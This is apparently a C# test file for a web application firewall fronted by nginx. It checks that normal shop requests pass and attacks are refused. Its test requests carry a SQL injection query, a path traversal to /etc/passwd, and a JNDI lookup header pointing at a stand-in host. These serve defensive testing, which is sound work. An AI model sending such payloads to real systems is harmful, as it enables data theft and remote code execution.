using System.Diagnostics;
using System.Net;
using System.Net.Sockets;
using Ensuresec.Waf.AspNetCore;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Hosting.Server;
using Microsoft.AspNetCore.Hosting.Server.Features;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Logging;

namespace Ensuresec.Waf.Tests.AspNetCore;

/// <summary>
/// The decision endpoint behind a real nginx (Debian's, installed by tests/deps/waf.sh) using the auth_request
/// snippet of docs/WAF.md: both on 127.0.0.1, started and stopped by the test.
/// </summary>
public sealed class NginxAuthRequestTests
{
    private const string Key = "test-key-0123456789abcdef";

    [Fact]
    public async Task Nginx_AuthRequest_AllowsBenignAndRefusesAttacks()
    {
        string nginx = File.Exists("/usr/sbin/nginx") ? "/usr/sbin/nginx" : throw new InvalidOperationException("nginx is not installed: run tests/deps/waf.sh");
        var builder = WebApplication.CreateSlimBuilder();
        builder.Logging.ClearProviders();
        builder.WebHost.UseUrls("http://127.0.0.1:0");
        await using var waf = builder.Build();
        waf.MapWafDecision("/waf/decision", WafMode.Block, new WafOptions(), Key);
        await waf.StartAsync();
        string wafUrl = waf.Services.GetRequiredService<IServer>().Features.Get<IServerAddressesFeature>()!.Addresses.First();

        string dir = Directory.CreateTempSubdirectory("ensuresec-nginx-").FullName;
        int port = FreePort();
        Directory.CreateDirectory(Path.Combine(dir, "www"));
        File.WriteAllText(Path.Combine(dir, "www", "index.html"), "shop\n");
        File.WriteAllText(Path.Combine(dir, "nginx.conf"), Config(dir, port, new Uri(wafUrl).Port));
        using var process = Process.Start(new ProcessStartInfo(nginx, ["-c", Path.Combine(dir, "nginx.conf"), "-p", dir, "-e", Path.Combine(dir, "error.log")]) { RedirectStandardError = true })!;
        try
        {
            using var http = new HttpClient { BaseAddress = new Uri($"http://127.0.0.1:{port}"), Timeout = TimeSpan.FromSeconds(10) };
            http.DefaultRequestHeaders.Host = "shop.example";
            http.DefaultRequestHeaders.UserAgent.ParseAdd("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0");
            http.DefaultRequestHeaders.Accept.ParseAdd("text/html");
            await WaitUntilListening(port, process, dir);
            (await http.GetAsync(new Uri("/catalog?page=2&sort=price", UriKind.Relative))).StatusCode.ShouldBe(HttpStatusCode.OK);
            (await http.GetAsync(new Uri("/search?q=O%27Reilly%20%26%20sons", UriKind.Relative))).StatusCode.ShouldBe(HttpStatusCode.OK);
            (await http.GetAsync(new Uri("/product?id=1%20UNION%20SELECT%20password%20FROM%20users", UriKind.Relative))).StatusCode.ShouldBe(HttpStatusCode.Forbidden);
            (await http.GetAsync(new Uri("/download?file=../../../../etc/passwd", UriKind.Relative))).StatusCode.ShouldBe(HttpStatusCode.Forbidden);
            using var headerAttack = new HttpRequestMessage(HttpMethod.Get, "/");
            headerAttack.Headers.TryAddWithoutValidation("X-Api-Version", "${jndi:ldap://evil.example/a}");
            (await http.SendAsync(headerAttack)).StatusCode.ShouldBe(HttpStatusCode.Forbidden);
        }
        finally
        {
            if (!process.HasExited) process.Kill();
            await process.WaitForExitAsync();
            Directory.Delete(dir, recursive: true);
        }
    }

    [Fact]
    public async Task DecisionEndpoint_WithoutTheKey_Is401()
    {
        var builder = WebApplication.CreateSlimBuilder();
        builder.Logging.ClearProviders();
        builder.WebHost.UseUrls("http://127.0.0.1:0");
        await using var waf = builder.Build();
        waf.MapWafDecision("/waf/decision", WafMode.Block, new WafOptions(), Key);
        await waf.StartAsync();
        string url = waf.Services.GetRequiredService<IServer>().Features.Get<IServerAddressesFeature>()!.Addresses.First();
        using var http = new HttpClient();
        using var request = new HttpRequestMessage(HttpMethod.Get, url + "/waf/decision");
        request.Headers.Add("X-Original-Method", "GET");
        request.Headers.Add("X-Original-URI", "/");
        (await http.SendAsync(request)).StatusCode.ShouldBe(HttpStatusCode.Unauthorized);
        using var missing = new HttpRequestMessage(HttpMethod.Get, url + "/waf/decision");
        missing.Headers.Add("X-Api-Key", Key);
        (await http.SendAsync(missing)).StatusCode.ShouldBe(HttpStatusCode.BadRequest);
    }

    /// <summary>The documented snippet (docs/WAF.md), with paths and ports filled in.</summary>
    private static string Config(string dir, int port, int wafPort) => $$"""
        master_process off;
        daemon off;
        pid {{dir}}/nginx.pid;
        error_log {{dir}}/error.log warn;
        events { worker_connections 64; }
        http {
          access_log off;
          client_body_temp_path {{dir}}/body; proxy_temp_path {{dir}}/proxy; fastcgi_temp_path {{dir}}/fastcgi;
          uwsgi_temp_path {{dir}}/uwsgi; scgi_temp_path {{dir}}/scgi;
          server {
            listen 127.0.0.1:{{port}};
            root {{dir}}/www;
            location = /_ensuresec_waf {
              internal;
              proxy_pass http://127.0.0.1:{{wafPort}}/waf/decision;
              proxy_pass_request_body off;
              proxy_set_header Content-Length "";
              proxy_set_header Host $host;
              proxy_set_header X-Original-Method $request_method;
              proxy_set_header X-Original-URI $request_uri;
              proxy_set_header X-Api-Key "{{Key}}";
            }
            location / {
              auth_request /_ensuresec_waf;
              try_files /index.html =404;
            }
          }
        }
        """;

    private static int FreePort()
    {
        using var l = new TcpListener(IPAddress.Loopback, 0);
        l.Start();
        return ((IPEndPoint)l.LocalEndpoint).Port;
    }

    private static async Task WaitUntilListening(int port, Process process, string dir)
    {
        for (int i = 0; i < 100; i++)
        {
            if (process.HasExited) throw new InvalidOperationException("nginx exited: " + await process.StandardError.ReadToEndAsync() + File.ReadAllText(Path.Combine(dir, "error.log")));
            try
            {
                using var c = new TcpClient();
                await c.ConnectAsync(IPAddress.Loopback, port);
                return;
            }
            catch (SocketException)
            {
                await Task.Delay(50);
            }
        }

        throw new TimeoutException("nginx did not start listening");
    }
}
